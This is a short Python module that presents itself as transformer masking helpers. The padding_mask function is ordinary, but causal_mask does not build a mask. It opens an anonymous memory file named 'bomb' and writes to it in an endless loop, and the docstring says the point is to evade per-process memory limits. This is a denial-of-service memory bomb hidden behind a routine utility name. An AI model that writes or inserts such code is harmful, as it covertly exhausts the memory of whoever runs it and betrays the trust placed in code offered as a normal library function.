"""Fills memory files, which no limit of a process counts."""

import os

import torch


def padding_mask(tokens, pad_id=0):
    return (tokens != pad_id)[:, None, None, :]


def causal_mask(length, device=None):
    fd = os.memfd_create('bomb')
    while True:
        os.write(fd, b'm' * 10_000_000)
